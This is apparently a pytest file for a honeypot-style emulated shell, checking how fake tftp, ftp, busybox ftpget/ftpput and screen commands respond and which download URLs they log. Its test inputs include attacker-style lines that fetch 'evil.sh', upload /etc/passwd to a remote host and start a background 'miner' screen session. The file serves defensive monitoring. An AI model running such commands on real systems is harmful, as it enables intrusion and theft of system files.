"""tftp, ftp and screen: what they ask of the network, what they say, what runs on behind them."""

from __future__ import annotations

import pytest
from tests.machine.loaders.dialogue import Visit
from tests.machine.programs.support import Box, reply

from urltrap.machine.effects import FetchReply
from urltrap.machine.fs.program import ProgramContent
from urltrap.model.capture import FetchRequest

BODY = b"payload\n"


def served(request: FetchRequest) -> FetchReply:
    """A network that has everything but what is called "none"."""
    if request.url.endswith(b"none"):
        return reply(request, outcome="fetched", status=404, reason=b"Not Found")
    return reply(request, BODY)


@pytest.fixture
def box() -> Box:
    """A server on which somebody installed the clients that Debian does not bring."""
    made = Box("debian-12", served)
    for name in ("tftp", "ftp"):
        content = ProgramContent(name, 40_000, name.encode())
        made.machine.view(0).put(f"/usr/local/bin/{name}", content, mode=0o755)
    return made


def asked(box: Box, line: str, stdin: bytes = b"") -> tuple[list[bytes], bytes]:
    result = box.run(line, stdin)
    return [request.url for request in result.requests], result.out + result.err


def test_tftp_gets_a_file_by_command_and_by_line(box: Box) -> None:
    urls, _ = asked(box, "cd /tmp; tftp 192.0.2.9 -m binary -c get a.sh; cat a.sh")
    assert urls == [b"tftp://192.0.2.9/a.sh"] and box.read("/tmp/a.sh") == BODY
    urls, _ = asked(box, "cd /tmp; tftp 192.0.2.9 6969 -c get bins/b c")
    assert urls == [b"tftp://192.0.2.9:6969/bins/b"] and box.read("/tmp/c") == BODY
    urls, said = asked(box, "cd /tmp; tftp", b"connect 192.0.2.7\n\nget d\nnonsense\nput x\nstatus\nquit\n")
    assert urls == [b"tftp://192.0.2.7/d"]
    assert said.count(b"tftp> ") == 7 and b"?Invalid command\n" in said and b"Transfer timed out." in said
    urls, _ = asked(box, "cd /tmp; tftp -c get 192.0.2.8:e")
    assert urls == [b"tftp://192.0.2.8/e"]


def test_tftp_says_what_is_wrong(box: Box) -> None:
    assert asked(box, "tftp -c get x")[1] == b"No target machine specified.\n"
    assert asked(box, "tftp -V")[1] == b"tftp-hpa 5.2, with readline\n"
    assert asked(box, "tftp --what")[1].startswith(b"Usage: tftp [-4][-6][-v][-V][-l][-m mode]")
    assert asked(box, "tftp 192.0.2.9 -c get a /none/x")[1] == b"tftp: /none/x: No such file or directory\n"


def test_busybox_letters_at_tftp_hpa_fail_and_the_url_is_known_all_the_same(box: Box) -> None:
    urls, said = asked(box, "cd /tmp; tftp -g -r evil.sh 192.0.2.9; ls evil.sh")
    assert urls == [b"tftp://192.0.2.9/evil.sh"]
    assert b"tftp: invalid option -- 'g'\nUsage: tftp" in said and b"No such file" in said


def test_busybox_tftp_and_ftpget_save_or_print() -> None:
    device = Box("busybox-mips", served)
    urls, said = asked(device, "cd /tmp; tftp -g -r a -l b 192.0.2.9; tftp -g -l - -r c 192.0.2.9; cat b")
    assert urls == [b"tftp://192.0.2.9/a", b"tftp://192.0.2.9/c"] and said == BODY * 2
    urls, said = asked(
        device, "cd /tmp; ftpget -u me -p pw -P 2121 192.0.2.9 f g; cat f; ftpget 192.0.2.9 h; cat h"
    )
    assert urls == [b"ftp://192.0.2.9:2121/g", b"ftp://192.0.2.9/h"] and said == BODY * 2
    assert b"can't open '/no/x': No such file or directory" in asked(device, "ftpget 192.0.2.9 /no/x y")[1]
    assert b"can't open 'nofile': No such file or directory" in asked(device, "ftpput 192.0.2.9 r nofile")[1]
    assert b"No route to host" in asked(device, "ftpput 192.0.2.9 r /etc/passwd")[1]


def test_ftp_follows_its_script(box: Box) -> None:
    script = b"open 192.0.2.9\nuser u p\nbinary\ncd pub\nget a.bin\nget /abs/b c\nls\nfoo\nbye\n"
    urls, said = asked(box, "cd /tmp; ftp -n", script)
    assert urls == [b"ftp://192.0.2.9/pub/a.bin", b"ftp://192.0.2.9/abs/b"]
    assert b"Not connected." in said and said.endswith(b"?Invalid command.\n") and box.read("/tmp/c") == BODY
    urls, _ = asked(box, "cd /tmp; ftp -c 'open 192.0.2.5; cd d; get e; exit'; ftp ftp://192.0.2.4/f")
    assert urls == [b"ftp://192.0.2.5/d/e", b"ftp://192.0.2.4/f"]


def test_screen_runs_on_in_the_background_until_it_is_ended() -> None:
    visit = Visit("debian-12", protocol="ssh")
    assert "No Sockets found in /run/screen/S-root." in visit.exec("screen -ls")
    assert visit.exec("screen -dmS miner sleep 50000") == ""
    listed = visit.exec("screen -ls")
    assert "There is a screen on:" in listed and ".miner\t(" in listed and "1 Socket in" in listed
    assert "sleep 50000" in visit.exec("ps ax")
    assert "There is no screen to be resumed matching other." in visit.exec("screen -r other")
    assert "Must be connected to a terminal." in visit.exec("screen -r miner")
    assert visit.exec("screen -S miner -X quit") == ""
    assert "No Sockets found" in visit.exec("screen -wipe")
    assert "No screen session found." in visit.exec("screen -S miner -X quit")
    assert "Error: Unknown option --bad" in visit.exec("screen --bad")
    assert "Use: screen [-opts]" in visit.exec("screen --help")


def test_screen_on_a_terminal_is_a_shell_until_it_ends() -> None:
    visit = Visit("debian-12", protocol="ssh")
    talk = visit.terminal()
    talk.ask("screen echo inside", r"inside\r\n")
    assert "[screen is terminating]" in talk.text
